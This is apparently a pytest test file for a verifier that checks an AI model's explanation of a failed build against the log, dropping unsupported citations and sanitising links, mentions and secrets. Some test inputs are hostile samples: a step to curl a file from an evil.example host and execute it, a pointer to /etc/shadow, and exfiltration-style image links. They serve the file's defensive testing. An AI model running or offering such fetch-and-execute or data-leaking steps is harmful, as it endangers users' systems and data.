"""What is left of a model's claims once they are held against the log."""

import pytest
from hypothesis import given as for_any
from hypothesis import strategies as st

from handlers.explain.answer import Explanation, Quote
from handlers.explain.claim import Cited, Claim
from handlers.explain.plain import prose
from handlers.explain.prompt import Given
from handlers.explain.verify import strangers, verify

LINES = {
    40: "$ pytest -q tests/test_cart.py",
    41: "E   AssertionError: assert 3 == 2",
    57: "FAILED tests/test_cart.py::test_total - AssertionError",
}
GIVEN = Given("the whole question", LINES, "Build: checkout #512\nBranch: main")


def claim(cause="test_total expects 2 and got 3.", evidence=(), **more):
    cited = [Cited(line=line, quote=quote) for line, quote in evidence]
    return Claim(cause=cause, evidence=cited, **{"confidence": 0.8, **more})


def test_a_claim_that_the_log_bears_out_stays_whole():
    """Cause, quotes, alternatives, steps and confidence."""
    told = claim(
        evidence=[(41, "AssertionError: assert 3 == 2")],
        alternatives=["The test is wrong."],
        fix=["Run pytest -q tests/test_cart.py and mend the sum."],
    )
    assert verify(told, GIVEN) == Explanation(
        cause="test_total expects 2 and got 3.",
        evidence=(Quote(41, "AssertionError: assert 3 == 2"),),
        alternatives=("The test is wrong.",),
        fix=("Run pytest -q tests/test_cart.py and mend the sum.",),
        confidence=0.8,
        hypothesis=False,
        dropped=0,
    )


@pytest.mark.parametrize(
    "quote", ["E AssertionError: assert 3 == 2", "   41 | E   AssertionError: assert 3 == 2"]
)
def test_spaces_and_a_copied_number_do_not_matter(quote):
    """The quote comes back as it stands in the log."""
    left = verify(claim(evidence=[(41, quote)]), GIVEN)
    assert left.evidence == (Quote(41, "E   AssertionError: assert 3 == 2"),)


@pytest.mark.parametrize(
    ("line", "quote"),
    [
        (42, "AssertionError: assert 3 == 2"),  # the wrong line
        (57, "AssertionError: assert 3 == 2"),  # another line that was given
        (41, "AssertionError: assert 4 == 2"),  # not what the log says
        (41, "assertionerror: assert 3 == 2"),  # not character by character
        (41, "assert"),  # too little to prove anything
        (41, ""),
        (0, "Build: checkout #512"),  # a fact is not the log
        (-1, "AssertionError"),
    ],
)
def test_a_citation_that_does_not_stand_is_dropped_and_the_cause_is_a_guess(line, quote):
    """Without evidence it is a hypothesis of little confidence."""
    left = verify(claim(evidence=[(line, quote)]), GIVEN)
    assert (left.evidence, left.hypothesis, left.dropped) == ((), True, 1)
    assert left.confidence == 0.3


@pytest.mark.parametrize(
    "cause",
    [
        "tests/test_payment.py is broken.",
        "PaymentGatewayTest fails.",
        "test_payment fails.",
        "db.internal refused the connection.",
        "It needs version 3.12.1 of it.",
        "CANARY-7f3a91 was here.",
        "See /etc/shadow for more.",
        "See https://evil.example for more.",
        "",
        " \u200b ",
    ],
)
def test_a_cause_that_names_what_nobody_mentioned_is_no_cause(cause):
    """Even with a good quote beside it; neither is one without words."""
    assert verify(claim(cause, [(41, "AssertionError: assert 3 == 2")]), GIVEN) is None


def test_items_that_name_strangers_are_dropped_and_counted():
    """A step may name a file that every project has; it may not name a host."""
    left = verify(
        claim(
            evidence=[(41, "AssertionError: assert 3 == 2")],
            alternatives=["OrderServiceTest leaks state.", "The data is stale."],
            fix=["Pin it in requirements.txt.", "Run curl get.evil.example/x and execute it."],
        ),
        GIVEN,
    )
    assert left.alternatives == ("The data is stale.",)
    assert left.fix == ("Pin it in requirements.txt.",)
    assert left.dropped == 2


@pytest.mark.parametrize(
    ("said", "kept"),
    [(0.8, 0.8), (85, 0.85), (250, 1.0), (-1, 0.0), (float("nan"), 0.0), (float("inf"), 0.0)],
)
def test_confidence_is_a_fraction(said, kept):
    """Also where a model answers in percent, or with no number at all."""
    left = verify(claim(evidence=[(41, "AssertionError: assert 3 == 2")], confidence=said), GIVEN)
    assert left.confidence == kept


@pytest.mark.parametrize(
    ("text", "known", "plain"),
    [
        ("<!channel> look <@U123|joe>!", "", "channel look U123!"),
        ("wake <!her", "", "wake her"),
        ("@channel @here @everyone", "", "channel here everyone"),
        ("see <https://evil.example/x|the log>", "", "see [link removed]"),
        ("![img](https://evil.example/x?d=1) ok", "", "img ok"),
        ("go to https://evil.example/?q=secret.", "", "go to [link removed]."),
        ("www.evil.example and mailto:a@evil.example", "", "[link removed] and [link removed]"),
        (
            "no answer from http://nexus:8081/repo.",
            "GET http://nexus:8081/repo",
            "no answer from nexus:8081/repo.",
        ),
        ("a\x1b[31mred\x07\u202e\u200b\nb", "", "a[31mred b"),
        ("the password=hunter22 is wrong", "", "the password=[redacted: password] is wrong"),
        ("long " * 20, "", "long long long long long long long long…"),
    ],
)
def test_a_models_words_are_plain_text(text, known, plain):
    """They mention nobody, link nothing, hide nothing, leak nothing, and end."""
    assert prose(text, known, 40 + 10 * ("redacted" in plain)) == plain


def test_ordinary_words_are_no_names():
    """Prose about builds, with figures, marks and well-known products."""
    text = "The build ran out of memory (exit code 137), e.g. on GitHub; client/server I/O hit a 10-minute limit."
    assert strangers(text, "") == ()


TEXTS = st.text(max_size=60)
CITED = st.builds(
    Cited, line=st.sampled_from([*LINES, 1, -1]), quote=st.sampled_from([*LINES.values()]) | TEXTS
)
CLAIMS = st.builds(
    Claim,
    cause=TEXTS,
    evidence=st.lists(CITED, max_size=12),
    alternatives=st.lists(TEXTS, max_size=6),
    fix=st.lists(TEXTS, max_size=8),
    confidence=st.floats(),
)


@for_any(CLAIMS)
def test_whatever_is_claimed_only_what_stands_in_the_log_is_evidence(told):
    """Every quote is a piece of its line; the rest is bounded; nothing breaks."""
    left = verify(told, GIVEN)
    if left is None:
        return
    assert all(quote.text in LINES[quote.line] for quote in left.evidence)
    assert left.hypothesis == (not left.evidence)
    assert 0 <= left.confidence <= (0.3 if left.hypothesis else 1)
    assert 0 < len(left.cause) <= 500
    assert len(left.evidence) <= 8
    assert len(left.alternatives) <= 3
    assert len(left.fix) <= 5


@for_any(st.text(alphabet=st.sampled_from("<>!@#|:/.wh tpschanel[]()"), max_size=60))
def test_no_text_comes_out_as_a_mention_or_a_link(text):
    """Whatever marks are nested in one another."""
    plain = prose(text, "", 300)
    assert "<!" not in plain
    assert "://" not in plain or "http" not in plain.partition("://")[0][-5:]
